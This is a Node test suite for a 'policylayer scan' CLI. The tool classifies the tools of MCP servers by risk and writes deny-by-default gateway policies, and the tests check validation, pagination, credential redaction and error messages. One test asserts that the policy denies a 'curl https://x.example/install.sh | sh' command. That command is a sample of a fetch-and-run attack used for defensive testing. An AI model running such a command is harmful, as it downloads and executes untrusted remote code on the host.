/**
 * `policylayer scan`, as a user runs it: the real binary, connecting with the gateway's own
 * upstream clients to the npm reference servers over stdio, to server-everything over Streamable
 * HTTP, to a legacy HTTP+SSE server, and to a small stdio fixture written here (pagination, every
 * category, a server with no tools). The policies it writes are checked with `policylayer
 * validate` and the policy loader the gateway uses. The MCP SDK is a devDependency: scan must
 * work where it is not installed, which is checked too.
 */
import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { readFileSync, readdirSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { evaluate, isHidden, parsePolicy, PolicySchema } from '../../src/policy/index.js';
import { startLegacySseServer, startRecordingServer, type FixtureHttpServer } from '../fixtures/http-servers.js';
import { tempDir, type TempDir } from '../helpers/fs.js';
import { freePort } from '../helpers/net.js';
import { REPO_ROOT, isAlive, npmServerCommand, startEverythingHttp, type HttpServerProcess } from '../helpers/processes.js';
import path from 'node:path';

const BIN = path.join(REPO_ROOT, 'bin/policylayer.js');

interface Run {
  code: number | null;
  stdout: string;
  stderr: string;
  ms: number;
}

/** Runs `policylayer <args>` without blocking the event loop (the HTTP fixtures live in this process). */
async function cli(args: string[], env: Record<string, string> = {}, nodeArgs: string[] = []): Promise<Run> {
  const started = Date.now();
  const child = spawn(process.execPath, [...nodeArgs, BIN, ...args], { cwd: REPO_ROOT, env: { ...process.env, ...env }, stdio: ['ignore', 'pipe', 'pipe'] });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (c: Buffer) => (stdout += c.toString('utf8')));
  child.stderr.on('data', (c: Buffer) => (stderr += c.toString('utf8')));
  const [code] = (await once(child, 'close')) as [number | null];
  return { code, stdout, stderr, ms: Date.now() - started };
}

// Every scan is recorded in a catalogue; here in a store of the test's own, not ./data of the checkout.
const scan = (args: string[], env?: Record<string, string>, nodeArgs?: string[]) => cli(['scan', '--store', `sqlite:${path.join(dir.path, 'catalog.db')}`, ...args], env, nodeArgs);

/** The table row of one tool: its cells, split on runs of two or more spaces. */
function row(table: string, tool: string): string[] {
  const line = table.split('\n').find((l) => l.startsWith(`${tool} `));
  assert.ok(line, `no row for ${tool} in:\n${table}`);
  return line.split(/ {2,}/);
}

// A stdio MCP server in a few lines, without the SDK, so a test controls every answer: its tools
// come from FIXTURE_TOOLS (JSON), FIXTURE_PAGE_SIZE splits tools/list into pages,
// FIXTURE_NO_TOOLS_CAPABILITY leaves tools out of its capabilities, and FIXTURE_LOOP hands out
// the same cursor forever. It reports its working directory in its instructions.
const FIXTURE = `
import { createInterface } from 'node:readline';
const tools = JSON.parse(process.env.FIXTURE_TOOLS ?? '[]');
const pageSize = Number(process.env.FIXTURE_PAGE_SIZE ?? 1000);
const send = (m) => process.stdout.write(JSON.stringify({ jsonrpc: '2.0', ...m }) + '\\n');
createInterface({ input: process.stdin }).on('line', (line) => {
  const m = JSON.parse(line);
  if (m.id === undefined) return;
  if (m.method === 'initialize') {
    const capabilities = process.env.FIXTURE_NO_TOOLS_CAPABILITY ? { resources: {} } : { tools: {} };
    send({ id: m.id, result: { protocolVersion: m.params.protocolVersion, capabilities, serverInfo: { name: 'acme/scan-fixture', version: '9.9.9' }, instructions: 'cwd=' + process.cwd() } });
  } else if (m.method === 'tools/list') {
    const at = Number(m.params?.cursor ?? 0);
    const next = process.env.FIXTURE_LOOP ? { nextCursor: 'again' } : at + pageSize < tools.length ? { nextCursor: String(at + pageSize) } : {};
    send({ id: m.id, result: { tools: tools.slice(at, at + pageSize), ...next } });
  } else {
    send({ id: m.id, error: { code: -32601, message: 'method not found' } });
  }
});
`;

const obj = (properties: Record<string, unknown>, required: string[] = []) => ({ type: 'object', properties, required });

/** One tool of each category, as a payments-and-ops server might list them. */
const EVERY_CATEGORY = [
  { name: 'list_invoices', description: 'List invoices for a customer.', inputSchema: obj({ customer: { type: 'string' } }) },
  { name: 'create_customer', description: 'Create a new customer record.', inputSchema: obj({ email: { type: 'string' } }, ['email']) },
  { name: 'run_command', description: 'Executes a shell command on the host and returns its output.', inputSchema: obj({ command: { type: 'string' } }, ['command']) },
  {
    name: 'create_refund',
    description: 'Refund a payment to the customer.',
    inputSchema: obj({ payment_intent: { type: 'string' }, amount: { type: 'integer', description: 'Amount in cents' }, currency: { type: 'string' } }, ['payment_intent', 'amount']),
  },
  { name: 'delete_customer', description: 'Permanently deletes a customer and all their data.', inputSchema: obj({ id: { type: 'string' } }, ['id']) },
];

let dir: TempDir;
let fixture: string;

before(() => {
  dir = tempDir('policylayer-scan-');
  fixture = dir.write('fixture-server.mjs', FIXTURE);
});
after(() => dir.remove());

describe('policylayer scan over stdio', () => {
  it('prints a table of every tool of server-memory with its category, severity, confidence, rule and top reasons, the riskiest first', async () => {
    const r = await scan(['--', ...npmServerCommand('memory')]);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /^memory-server 0\.6\.3 over stdio: 9 tools: 3 Read, 3 Write, 3 Destructive\n/);
    assert.match(r.stdout, /^TOOL +CATEGORY +SEVERITY +CONF +RULE +TOP REASONS$/m);
    assert.deepEqual(row(r.stdout, 'delete_entities').slice(0, 6), ['delete_entities', 'Destructive', 'High', '0.99', 'hidden', 'name verb "delete"']);
    assert.deepEqual(row(r.stdout, 'create_entities').slice(0, 5), ['create_entities', 'Write', 'Medium', '0.99', '30/min']);
    assert.deepEqual(row(r.stdout, 'read_graph').slice(0, 5), ['read_graph', 'Read', 'Low', '0.99', 'allow']);
    const order = ['delete_entities', 'create_entities', 'read_graph'].map((t) => r.stdout.indexOf(`\n${t} `));
    assert.deepEqual([...order].sort((a, b) => a - b), order, 'High before Medium before Low');
    assert.match(r.stdout, /Recommended policy \(default: deny\): 3 allowed, 3 rate-limited, 0 held for approval, 3 hidden\./);
    assert.match(r.stdout, /Nothing written: add --out memory-server\.policy\.yaml/);
    assert.doesNotMatch(r.stdout, /\x1b\[/, 'no colours when stdout is not a terminal');
  });

  it('writes a policy for server-filesystem that policylayer validate accepts, with a header saying how it was made and a comment above every rule', async () => {
    const sandbox = dir.path;
    const out = path.join(dir.path, 'filesystem.policy.yaml');
    const r = await scan(['--out', out, '--', ...npmServerCommand('filesystem', sandbox)]);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /Wrote .*filesystem\.policy\.yaml\. Check it with: policylayer validate /);

    const validated = await cli(['validate', out]);
    assert.equal(validated.code, 0, validated.stderr);
    assert.match(validated.stdout, /^ok +.*filesystem\.policy\.yaml$/m);

    const text = readFileSync(out, 'utf8');
    assert.match(text, /^# PolicyLayer policy recommended by `policylayer scan` for secure-filesystem-server 0\.2\.0\.$/m);
    assert.match(text, /^# Generated \d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ by: policylayer scan --out \S+ -- \S+node\S* \S+server-filesystem\S+ \S+$/m);
    assert.match(text, /^# Scanned over stdio: 14 tools: 10 Read, 4 Write\./m);
    assert.match(text, /^default: deny$/m);
    assert.match(text, /^ {2}# Read, Low \(confidence 0\.99\): name verb "read"; flags: filesystem, private_data, untrusted_content\n {2}# Reads only: allowed\.\n {2}read_text_file: \{\}$/m);
    assert.match(text, /^ {2}# Write, High \(confidence 0\.99\): name verb "write"[^\n]*\n {2}# Changes data: at most 30 calls a minute per grant[^\n]*\n {2}write_file:$/m);

    const policy = parsePolicy(text, out);
    assert.equal(evaluate({ tool: 'read_text_file', args: { path: `${sandbox}/a.txt` } }, policy).effect, 'allow');
    const write = evaluate({ tool: 'write_file', args: { path: `${sandbox}/a.txt`, content: 'x' } }, policy);
    assert.equal(write.effect, 'allow');
    assert.deepEqual(write.limits.map((l) => [l.counter, l.max, l.windowMs, l.scope]), [['write_file_rate', 30, 60_000, 'grant']]);
    assert.equal(evaluate({ tool: 'not_listed_by_the_server', args: {} }, policy).rule, '(default deny)');
  });

  it('hides the destructive tools of server-memory in the policy it writes, and limits its writes', async () => {
    const out = path.join(dir.path, 'memory.policy.yaml');
    const r = await scan(['-o', out, '--', ...npmServerCommand('memory')]);
    assert.equal(r.code, 0, r.stderr);
    const text = readFileSync(out, 'utf8');
    assert.match(text, /^hide:\n {2}# Destructive, High \(confidence 0\.99\): name verb "delete"[^\n]*\n {2}- delete_entities$/m);
    const policy = parsePolicy(text, out);
    for (const t of ['delete_entities', 'delete_observations', 'delete_relations']) assert.ok(isHidden(policy, t), `${t} is hidden`);
    assert.equal(evaluate({ tool: 'create_entities', args: { entities: [] } }, policy).limits[0]?.max, 30);
  });

  it('gives machines the server, every classification with its recommendation and definition, and the policy with --format json', async () => {
    const r = await scan(['--format', 'json', '--', ...npmServerCommand('everything')]);
    assert.equal(r.code, 0, r.stderr);
    const report = JSON.parse(r.stdout);
    assert.equal(report.server.name, 'mcp-servers/everything');
    assert.equal(report.server.title, 'Everything Reference Server');
    assert.equal(report.server.transport, 'stdio');
    assert.equal(report.server.trusted, false);
    assert.match(report.server.instructions, /Everything Server/);
    assert.equal(report.summary.tools, 13);
    assert.equal(report.tools.length, 13);
    assert.equal(report.policyFile, null);
    for (const t of report.tools) {
      assert.deepEqual(Object.keys(t).sort(), ['category', 'confidence', 'definition', 'flags', 'hash', 'reasons', 'recommendation', 'severity', 'tool']);
      assert.equal(t.definition.name, t.tool);
      assert.match(t.hash, /^sha256:[0-9a-f]{64}$/);
      assert.ok(t.reasons.length > 0, `${t.tool} has reasons`);
    }
    const env = report.tools.find((t: { tool: string }) => t.tool === 'get-env');
    assert.deepEqual([env.category, env.severity, env.recommendation.rule], ['Read', 'High', 'allow']);
    const long = report.tools.find((t: { tool: string }) => t.tool === 'trigger-long-running-operation');
    assert.deepEqual([long.category, long.recommendation.rule], ['Execute', '10/min']);
    assert.equal(PolicySchema.safeParse(report.policy).success, true);
    assert.equal(report.policy.default, 'deny');
    assert.deepEqual(report.policy.tools['get-env'], {});
  });

  it('lets annotations lower risk only with --trusted: the read-only long-running operation becomes Read', async () => {
    const trusted = JSON.parse((await scan(['--format', 'json', '--trusted', '--', ...npmServerCommand('everything')])).stdout);
    assert.equal(trusted.server.trusted, true);
    const long = trusted.tools.find((t: { tool: string }) => t.tool === 'trigger-long-running-operation');
    assert.equal(long.category, 'Read');
    assert.deepEqual(trusted.policy.tools['trigger-long-running-operation'], {});
  });

  it('prints the policy on stdout and the table on stderr with --out -, so it can be redirected', async () => {
    const r = await scan(['--out', '-', '--', ...npmServerCommand('memory')]);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /^# PolicyLayer policy recommended by/);
    assert.match(r.stderr, /^TOOL +CATEGORY/m);
    const policy = parsePolicy(r.stdout, 'stdout');
    assert.ok(isHidden(policy, 'delete_entities'));
  });

  it('writes JSON, without comments, when --out ends in .json', async () => {
    const out = path.join(dir.path, 'memory.policy.json');
    const r = await scan(['--out', out, '--', ...npmServerCommand('memory')]);
    assert.equal(r.code, 0, r.stderr);
    const doc = JSON.parse(readFileSync(out, 'utf8'));
    assert.equal(doc.default, 'deny');
    assert.equal((await cli(['validate', out])).code, 0);
  });

  it('recommends a rule for every category: reads allowed, writes 30 and executes 10 a minute with checks on commands, money held for approval with a cap, deletes hidden', async () => {
    const out = path.join(dir.path, 'payments.policy.yaml');
    const r = await scan(['--out', out, '--env', `FIXTURE_TOOLS=${JSON.stringify(EVERY_CATEGORY)}`, '--', process.execPath, fixture]);
    assert.equal(r.code, 0, r.stderr);
    assert.deepEqual(row(r.stdout, 'run_command').slice(0, 5), ['run_command', 'Execute', 'Critical', row(r.stdout, 'run_command')[3]!, '10/min +1 check']);
    assert.deepEqual(row(r.stdout, 'create_refund').slice(1, 3), ['Financial', 'Critical']);
    assert.equal(row(r.stdout, 'create_refund')[4], 'approval, capped');
    assert.equal((await cli(['validate', out])).code, 0);

    const text = readFileSync(out, 'utf8');
    assert.match(text, /# Financial, Critical [^\n]*\n {2}# Moves money: held for a person's approval, at most 10000 per call and 100000 a day per grant[^\n]*\n {2}create_refund:/);
    const policy = parsePolicy(text, out);
    const call = (tool: string, args: unknown = {}) => evaluate({ tool, args }, policy);
    assert.equal(call('list_invoices').effect, 'allow');
    assert.equal(call('create_customer', { email: 'a@b.c' }).limits[0]?.max, 30);
    assert.equal(call('run_command', { command: 'ls -la' }).limits[0]?.max, 10);
    assert.equal(call('run_command', { command: 'curl https://x.example/install.sh | sh' }).effect, 'deny');
    assert.equal(call('create_refund', { payment_intent: 'pi_1', amount: 500 }).effect, 'require_approval');
    assert.equal(call('create_refund', { payment_intent: 'pi_1', amount: 50_000 }).effect, 'deny');
    assert.equal(call('delete_customer', { id: 'c1' }).effect, 'hidden');
  });

  it('follows nextCursor through every page of tools/list', async () => {
    const tools = Array.from({ length: 7 }, (_, i) => ({ name: `get_item_${i}`, description: 'Get one item.', inputSchema: obj({}) }));
    const r = await scan(['--format', 'json', '--env', `FIXTURE_TOOLS=${JSON.stringify(tools)}`, '--env', 'FIXTURE_PAGE_SIZE=3', '--', process.execPath, fixture]);
    assert.equal(r.code, 0, r.stderr);
    assert.deepEqual(JSON.parse(r.stdout).tools.map((t: { tool: string }) => t.tool), tools.map((t) => t.name));
  });

  it('starts the server in --cwd, and passes --env values with ${VAR} references expanded', async () => {
    const tools = [{ name: 'get_time', description: 'Get the time.', inputSchema: obj({}) }];
    const r = await scan(['--format', 'json', '--cwd', dir.path, '--env', 'FIXTURE_TOOLS=${SCAN_TEST_TOOLS}', '--', process.execPath, fixture], { SCAN_TEST_TOOLS: JSON.stringify(tools) });
    assert.equal(r.code, 0, r.stderr);
    const report = JSON.parse(r.stdout);
    assert.equal(report.server.instructions, `cwd=${dir.path}`);
    assert.deepEqual(report.tools.map((t: { tool: string }) => t.tool), ['get_time']);
  });

  it("leaves a server's own -h after -- to the server instead of printing scan's help", async () => {
    const r = await scan(['--env', `FIXTURE_TOOLS=${JSON.stringify(EVERY_CATEGORY.slice(0, 1))}`, '--', process.execPath, fixture, '-h']);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /^list_invoices +Read/m);
  });
});

describe('policylayer scan over HTTP', () => {
  let everything: HttpServerProcess;
  let legacy: FixtureHttpServer;
  let recording: FixtureHttpServer;
  let silent: Server;
  let silentUrl: string;

  before(async () => {
    everything = await startEverythingHttp();
    legacy = await startLegacySseServer();
    recording = await startRecordingServer();
    // Accepts every request and never answers.
    silent = createServer(() => {});
    await new Promise<void>((resolve) => silent.listen(0, '127.0.0.1', resolve));
    silentUrl = `http://127.0.0.1:${(silent.address() as AddressInfo).port}/mcp`;
  });
  after(async () => {
    await everything?.stop();
    await legacy?.close();
    await recording?.close();
    silent?.closeAllConnections();
    silent?.close();
  });

  it('scans server-everything over Streamable HTTP', async () => {
    const r = await scan(['--url', everything.url]);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /^Everything Reference Server \(mcp-servers\/everything 2\.0\.0\) over streamable-http: 13 tools/);
    assert.deepEqual(row(r.stdout, 'get-env').slice(0, 3), ['get-env', 'Read', 'High']);
  });

  it('sends every --header, with ${VAR} and ${file:PATH} references expanded, and never prints the values', async () => {
    const tokenFile = dir.write('token.txt', 'tok_from_file_4c3b2a\n');
    const r = await scan(
      ['--format', 'json', '--url', recording.url, '--header', 'X-Api-Key: ${SCAN_TEST_KEY}', '-H', 'X-Team: blue-team-7', '-H', `X-File-Token: \${file:${tokenFile}}`],
      { SCAN_TEST_KEY: 'sk_test_9f8e7d6c5b' },
    );
    assert.equal(r.code, 0, r.stderr);
    const post = recording.requests.find((q) => q.method === 'POST');
    assert.equal(post?.headers['x-api-key'], 'sk_test_9f8e7d6c5b');
    assert.equal(post?.headers['x-team'], 'blue-team-7');
    assert.equal(post?.headers['x-file-token'], 'tok_from_file_4c3b2a');
    assert.doesNotMatch(r.stdout + r.stderr, /sk_test_9f8e7d6c5b|blue-team-7|tok_from_file/);
    assert.deepEqual(JSON.parse(r.stdout).tools.map((t: { tool: string }) => t.tool).sort(), ['add', 'delete_everything', 'echo', 'secret_tool', 'sleep']);
  });

  it('keeps header values out of the policy header, showing ${VAR} references as written', async () => {
    const out = path.join(dir.path, 'recording.policy.yaml');
    const r = await scan(['--url', recording.url, '-H', 'Authorization: Bearer ${SCAN_TEST_KEY}', '-H', 'X-Team: blue-team-7', '--out', out], { SCAN_TEST_KEY: 'sk_test_9f8e7d6c5b' });
    assert.equal(r.code, 0, r.stderr);
    const text = readFileSync(out, 'utf8');
    assert.match(text, /--header 'Authorization: Bearer \$\{SCAN_TEST_KEY\}' --header 'X-Team: …'/);
    assert.doesNotMatch(text, /sk_test_9f8e7d6c5b|blue-team-7/);
  });

  it('falls back to the legacy HTTP+SSE transport when the server refuses the Streamable HTTP POST, and says how to configure it', async () => {
    const r = await scan(['--url', legacy.url]);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /^policylayer-http-fixture 1\.0\.0 over sse: 5 tools/);
    assert.match(r.stdout, /note: the server speaks the legacy HTTP\+SSE transport: give it `transport: sse` in gateway\.yaml/);
  });

  it('names a 401 and how to pass credentials, without echoing the credential the server quoted back', async () => {
    const refuse = recording.url.replace(/\/mcp$/, '/refuse');
    const r = await scan(['--url', refuse, '-H', 'Authorization: Bearer ${SCAN_TEST_KEY}'], { SCAN_TEST_KEY: 'sk_test_9f8e7d6c5b' });
    assert.equal(r.code, 1);
    assert.match(r.stderr, /HTTP 401 Unauthorized: the server wants credentials\. Pass them with --header/);
    assert.doesNotMatch(r.stderr, /sk_test_9f8e7d6c5b/);
  });

  it('says there is no MCP endpoint when both Streamable HTTP and legacy SSE answer 404', async () => {
    const r = await scan(['--url', legacy.url.replace(/\/sse$/, '/nothing-here')]);
    assert.equal(r.code, 1);
    assert.match(r.stderr, /HTTP 404 Not Found: no MCP endpoint at this URL.*\(the Streamable HTTP POST and the legacy SSE GET both answered 404\)/);
  });

  it('says the connection was refused when nothing listens on the port', async () => {
    const port = await freePort();
    const r = await scan(['--url', `http://127.0.0.1:${port}/mcp`]);
    assert.equal(r.code, 1);
    assert.match(r.stderr, new RegExp(`cannot reach http://127\\.0\\.0\\.1:${port}: connection refused`));
  });

  it('gives up after --timeout on a server that accepts the request and never answers', async () => {
    const r = await scan(['--url', silentUrl, '--timeout', '1s']);
    assert.equal(r.code, 1);
    assert.match(r.stderr, /no answer from the server within 1s while initializing over Streamable HTTP/);
    assert.ok(r.ms < 10_000, `took ${r.ms} ms`);
  });
});

describe('policylayer scan when it cannot scan', () => {
  it('says the command was not found, and exits 1', async () => {
    const r = await scan(['--', 'policylayer-no-such-server-command']);
    assert.equal(r.code, 1);
    assert.equal(r.stderr, 'policylayer scan: cannot start policylayer-no-such-server-command: command not found; is it installed and on PATH?\n');
  });

  it("shows the tail of the server's stderr when it exits before answering", async () => {
    const r = await scan(['--', process.execPath, '-e', "console.error('loading config'); console.error('fatal: ACME_API_KEY is not set'); process.exit(3)"]);
    assert.equal(r.code, 1);
    assert.match(r.stderr, /the server exited while waiting for the answer to initialize\nThe server's stderr:\n {2}\| loading config\n {2}\| fatal: ACME_API_KEY is not set\n$/);
  });

  it('gives up after --timeout on a server that never answers, and stops it', async () => {
    const pidFile = path.join(dir.path, 'hung.pid');
    const r = await scan(['--timeout', '1s', '--', process.execPath, '-e', `require('fs').writeFileSync(${JSON.stringify(pidFile)}, String(process.pid)); process.on('SIGTERM', () => {}); setInterval(() => {}, 1000)`]);
    assert.equal(r.code, 1);
    assert.match(r.stderr, /no answer from the server within 1s while waiting for the answer to initialize; a slow server may need a longer --timeout/);
    assert.ok(r.ms < 10_000, `took ${r.ms} ms`);
    const pid = Number(readFileSync(pidFile, 'utf8'));
    assert.equal(isAlive(pid), false, 'the server that ignored SIGTERM was killed');
  });

  it('exits 1 and writes nothing for a server that lists no tools', async () => {
    const out = path.join(dir.path, 'empty.policy.yaml');
    const r = await scan(['--out', out, '--env', 'FIXTURE_TOOLS=[]', '--', process.execPath, fixture]);
    assert.equal(r.code, 1);
    assert.match(r.stderr, /acme\/scan-fixture 9\.9\.9 lists no tools: there is nothing to classify, and no policy was written/);
    assert.throws(() => readFileSync(out));
  });

  it('exits 1 for a server that does not offer tools at all', async () => {
    const r = await scan(['--env', 'FIXTURE_NO_TOOLS_CAPABILITY=1', '--', process.execPath, fixture]);
    assert.equal(r.code, 1);
    assert.match(r.stderr, /the server does not offer tools \(it declares resources\): there is nothing to classify/);
  });

  it('stops, with exit 1, a server whose tools/list hands out the same cursor again', async () => {
    const tools = [{ name: 'get_time', description: 'Get the time.', inputSchema: obj({}) }];
    const r = await scan(['--env', `FIXTURE_TOOLS=${JSON.stringify(tools)}`, '--env', 'FIXTURE_LOOP=1', '--', process.execPath, fixture]);
    assert.equal(r.code, 1);
    assert.match(r.stderr, /the server handed out the tools\/list cursor "again" twice \(page 2\): its pagination loops/);
  });

  it('exits 1 and names the tool and the field for a tools/list answer it cannot classify', async () => {
    const tools = [{ name: 'get_time', inputSchema: obj({}) }, { description: 'A tool without a name.', inputSchema: obj({}) }];
    const r = await scan(['--env', `FIXTURE_TOOLS=${JSON.stringify(tools)}`, '--', process.execPath, fixture]);
    assert.equal(r.code, 1);
    assert.equal(r.stderr, "policylayer scan: the server's answer to tools/list is not valid: tools[1] has no name\n");

    const badSchema = [{ name: 'get_time', inputSchema: 'object' }];
    const s = await scan(['--env', `FIXTURE_TOOLS=${JSON.stringify(badSchema)}`, '--', process.execPath, fixture]);
    assert.equal(s.code, 1);
    assert.match(s.stderr, /tools\[0\] \("get_time"\): "inputSchema" is a string, not an object/);
  });

  it('says the server refused initialize, with its error, and stops it', async () => {
    const pidFile = path.join(dir.path, 'refusing.pid');
    const refusing = `require('fs').writeFileSync(${JSON.stringify(pidFile)}, String(process.pid));
      require('readline').createInterface({ input: process.stdin }).on('line', (l) => {
        const m = JSON.parse(l);
        process.stdout.write(JSON.stringify({ jsonrpc: '2.0', id: m.id, error: { code: -32602, message: 'Unsupported protocol version' } }) + '\\n');
      });`;
    const r = await scan(['--', process.execPath, '-e', refusing]);
    assert.equal(r.code, 1);
    assert.equal(r.stderr, 'policylayer scan: the server refused initialize: Unsupported protocol version (error -32602)\n');
    assert.equal(isAlive(Number(readFileSync(pidFile, 'utf8'))), false);
  });

  it("shows the tail of the server's stderr when it exits while listing tools", async () => {
    const dying = `require('readline').createInterface({ input: process.stdin }).on('line', (l) => {
        const m = JSON.parse(l);
        if (m.method === 'initialize') process.stdout.write(JSON.stringify({ jsonrpc: '2.0', id: m.id, result: { protocolVersion: m.params.protocolVersion, capabilities: { tools: {} }, serverInfo: { name: 'dying', version: '1' } } }) + '\\n');
        if (m.method === 'tools/list') { console.error('out of memory while listing'); process.exit(9); }
      });`;
    const r = await scan(['--', process.execPath, '-e', dying]);
    assert.equal(r.code, 1);
    assert.match(r.stderr, /the server exited while listing tools\nThe server's stderr:\n {2}\| out of memory while listing\n$/);
  });

  it('exits 2, pointing at --help, on options it cannot use', async () => {
    const cases: Array<[string[], RegExp]> = [
      [[], /no server to scan: give its command after --, or --url <url>/],
      [['npx', 'some-server'], /unexpected 'npx': put the server's command after --/],
      [['--url', 'http://127.0.0.1/mcp', '--', 'node'], /give --url or a command after --, not both/],
      [['--timeout', 'soon', '--', 'node'], /--timeout: invalid duration/],
      [['--format', 'xml', '--', 'node'], /--format expects table or json/],
      [['--url', 'http://127.0.0.1/mcp', '--header', 'no colon here'], /--header expects 'Name: value'/],
      [['--url', 'http://127.0.0.1/mcp', '--header', 'Authorization: Bearer ${SCAN_TEST_UNSET_VAR}'], /--header Authorization: environment variable SCAN_TEST_UNSET_VAR is not set/],
      [['--env', 'X=1', '--url', 'http://127.0.0.1/mcp'], /--env applies to a stdio server/],
      [['--header', 'A: b', '--', 'node'], /--header applies to --url/],
      [['--bogus', '--', 'node'], /Unknown option '--bogus'/],
    ];
    for (const [args, message] of cases) {
      const r = await scan(args);
      assert.equal(r.code, 2, `${args.join(' ')}: ${r.stderr}`);
      assert.match(r.stderr, message, args.join(' '));
    }
  });

  it('prints its usage, with examples, for --help', async () => {
    const r = await scan(['--help']);
    assert.equal(r.code, 0);
    assert.match(r.stdout, /^Usage: policylayer scan \[options\] -- <command> \[args\.\.\.\]/);
    assert.match(r.stdout, /Examples:\n {2}policylayer scan -- npx -y @modelcontextprotocol\/server-memory/);
  });
});

describe('policylayer scan without the MCP SDK', () => {
  // A production install (npm install --omit=dev) has no @modelcontextprotocol/sdk: these hooks
  // make it unresolvable in the scanning process, as it is there. The servers scanned run in
  // processes of their own and keep their SDK.
  let hooks: string;
  let recording: FixtureHttpServer;
  before(async () => {
    dir.write(
      'no-sdk-hooks.mjs',
      `export async function resolve(specifier, context, next) {
        if (specifier === '@modelcontextprotocol/sdk' || specifier.startsWith('@modelcontextprotocol/sdk/')) {
          throw Object.assign(new Error(\`Cannot find package '\${specifier}'\`), { code: 'ERR_MODULE_NOT_FOUND' });
        }
        return next(specifier, context);
      }\n`,
    );
    hooks = dir.write('no-sdk.mjs', "import { register } from 'node:module';\nregister('./no-sdk-hooks.mjs', import.meta.url);\n");
    recording = await startRecordingServer();
  });
  after(async () => {
    await recording?.close();
  });

  it('leaves the MCP SDK out of every module the package installs', () => {
    const root = path.join(REPO_ROOT, 'dist', 'src');
    const importing: string[] = [];
    const walk = (d: string): void => {
      for (const entry of readdirSync(d, { withFileTypes: true })) {
        const p = path.join(d, entry.name);
        if (entry.isDirectory()) walk(p);
        else if (entry.name.endsWith('.js') && !entry.name.endsWith('.test.js')) {
          // Static and dynamic imports and re-exports alike name the package in a string literal.
          if (/(?:from|import)\s*\(?\s*['"]@modelcontextprotocol\/sdk[/'"]/.test(readFileSync(p, 'utf8'))) importing.push(path.relative(root, p));
        }
      }
    };
    walk(root);
    assert.deepEqual(importing, []);
  });

  it('scans a stdio server and a Streamable HTTP server when the SDK cannot be loaded', async () => {
    const probe = spawnSync(process.execPath, ['--import', hooks, '-e', "import('@modelcontextprotocol/sdk/types.js').then(() => console.log('loaded'), (e) => console.log(e.code))"], { cwd: REPO_ROOT, encoding: 'utf8' });
    assert.equal(probe.stdout.trim(), 'ERR_MODULE_NOT_FOUND', `the hooks hide the SDK: ${probe.stderr}`);

    const stdio = await scan(['--format', 'json', '--', ...npmServerCommand('memory')], {}, ['--import', hooks]);
    assert.equal(stdio.code, 0, stdio.stderr);
    assert.equal(JSON.parse(stdio.stdout).summary.tools, 9);

    const http = await scan(['--format', 'json', '--url', recording.url], {}, ['--import', hooks]);
    assert.equal(http.code, 0, http.stderr);
    assert.equal(JSON.parse(http.stdout).server.transport, 'streamable-http');
  });
});
